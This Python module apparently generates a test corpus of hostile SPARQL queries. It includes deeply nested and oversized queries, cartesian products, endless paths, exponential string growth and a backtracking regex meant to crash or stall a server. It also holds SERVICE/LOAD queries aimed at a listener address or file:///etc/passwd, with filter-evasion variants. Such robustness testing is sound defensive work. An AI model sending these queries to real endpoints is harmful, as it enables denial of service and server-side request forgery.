"""Queries that are meant to block a server, crash its process, or make it contact other servers."""

from collections.abc import Iterator

ELSEWHERE = "http://127.0.0.1:PORT/"
"""The address that the queries try to reach. The port is that of a listener of the campaign."""

_PATTERN = "?a{0} ?b{0} ?c{0} . "


def hostile_queries() -> Iterator[tuple[str, str]]:
    """Yield each query with a name for its shape."""
    yield from _nested()
    yield from _long()
    yield from _products()
    yield from _strings()
    yield from _services()


def _nested() -> Iterator[tuple[str, str]]:
    for depth in (150, 5_000, 20_000):
        yield f"{depth} braces", f"SELECT * {'{' * depth}{'}' * depth}"
        yield f"{depth} parentheses", f"SELECT ({'(' * depth}1{')' * depth} AS ?x) {{}}"
    for depth in (60, 190, 1_000):
        yield (
            f"{depth} OPTIONAL",
            f"SELECT * {{ {'OPTIONAL { ?s ?p ?o ' * depth}{'}' * depth} }}",
        )
        yield f"{depth} sub-SELECT", f"SELECT * {'{ SELECT * ' * depth}{{}}{'}' * depth}"
        yield (
            f"{depth} EXISTS",
            f"SELECT * {{ {'FILTER EXISTS { ?s ?p ?o ' * depth}{'}' * depth} }}",
        )


def _long() -> Iterator[tuple[str, str]]:
    for count in (50, 100, 400):
        triples = "".join(_PATTERN.format(number) for number in range(count))
        yield f"{count} unconnected patterns", f"SELECT * {{ {triples} }}"
    for count in (5_000, 30_000):
        yield f"{count} !", f"SELECT * {{ FILTER({'!' * count}true) }}"
        yield f"{count} ||", f"SELECT * {{ FILTER(true{'||true' * count}) }}"
        yield f"{count} +", f"SELECT (1{'+1' * count} AS ?x) {{}}"
        yield f"{count} steps", f"SELECT * {{ ?s kv:text{'/kv:text' * count} ?o }}"
        yield f"{count} alternatives", f"SELECT * {{ ?s kv:text{'|kv:text' * count} ?o }}"
    for count in (1_000, 8_000):
        yield f"{count} UNION", f"SELECT * {{ {{}}{' UNION {}' * count} }}"
        yield f"{count} VALUES", f"SELECT * {{ VALUES ?x {{ {'1 ' * count} }} ?x ?y ?z }}"


def _products() -> Iterator[tuple[str, str]]:
    for count in (2, 3, 5):
        triples = "".join(_PATTERN.format(number) for number in range(count))
        yield f"count of {count} patterns", f"SELECT (COUNT(*) AS ?n) {{ {triples} }}"
        yield f"order of {count} patterns", f"SELECT * {{ {triples} }} ORDER BY ?c0 ?a{count - 1}"
        yield f"distinct of {count} patterns", f"SELECT DISTINCT * {{ {triples} }}"
        yield f"everything of {count} patterns", f"SELECT * {{ {triples} }}"
    yield "filter on a product", "SELECT * { ?a ?b ?c . ?d ?e ?f FILTER(STRLEN(?c) < -STRLEN(?f)) }"
    yield "minus", "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f MINUS { ?g ?h ?c } }"
    yield "group", "SELECT (GROUP_CONCAT(STR(?o)) AS ?x) { ?s ?p ?o . ?a ?b ?c }"
    yield "endless path", "SELECT (COUNT(*) AS ?n) { ?s (!kv:a|^!kv:a)* ?o }"
    yield "two endless paths", "SELECT * { ?s (!kv:a)+ ?o . ?o (!kv:a|^!kv:a)+ ?s }"
    yield (
        "values",
        "SELECT (COUNT(*) AS ?n) { "
        + " ".join(f"VALUES ?v{number} {{ {'1 ' * 300} }}" for number in range(5))
        + " }",
    )
    yield "everything as triples", "CONSTRUCT { ?a ?e ?c } { ?a ?b ?c . ?d ?e ?f }"
    yield "describe everything", "DESCRIBE * { ?a ?b ?c . ?d ?e ?f }"


def _strings() -> Iterator[tuple[str, str]]:
    for count in (20, 26, 32):
        steps = " ".join(
            f"BIND(CONCAT(?x{number}, ?x{number}) AS ?x{number + 1})" for number in range(count)
        )
        yield (
            f"{count} doublings",
            f"SELECT (STRLEN(?x{count}) AS ?n) {{ BIND('x' AS ?x0) {steps} }}",
        )
    yield "regular expression", "SELECT * { FILTER(REGEX('" + "a" * 5_000 + "b', '(a+)+$')) }"
    yield (
        "replacement",
        "SELECT (REPLACE(REPLACE(REPLACE('" + "a" * 900
        + "', 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaaaaaaaaaaaa') AS ?x) {}",
    )  # fmt: skip


def _services() -> Iterator[tuple[str, str]]:
    for text in (
        "SELECT * { SERVICE <URL> { ?s ?p ?o } }",
        "SELECT*{service<URL>{}}",
        "SELECT * { SERVICE SILENT <URL> {} }",
        "SELECT*{SERVICESILENT<URL>{}}",
        "SELECT * { VALUES ?u { <URL> } SERVICE ?u {} }",
        "BASE <URL> SELECT * { SERVICE <x> {} }",
        "PREFIX : <URL> SELECT*{SERVICE:x{}}",
        "SELECT*{?s ?p 1SERVICE<URL>{}}",
        "SELECT*{FILTER(1<2)SERVICE#>\n<URL>{}}",
        'SELECT*{FILTER(1<2)#>"""\n SERVICE <URL> {} #"""\n}',
        'SELECT*{VALUES ?x {"""a" } SERVICE <URL> {} #\\x"""\n}',
        "SELECT * FROM <URL> { ?s ?p ?o }",
        "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
        "SELECT * { GRAPH <URL> { ?s ?p ?o } }",
        "LOAD <URL>",
        "LOAD <file:///etc/passwd> INTO GRAPH <x:>",
        r"SELECT * { \u0053ERVICE <URL> {} }",
    ):
        yield text.partition("<")[0][:20], text.replace("URL", ELSEWHERE)
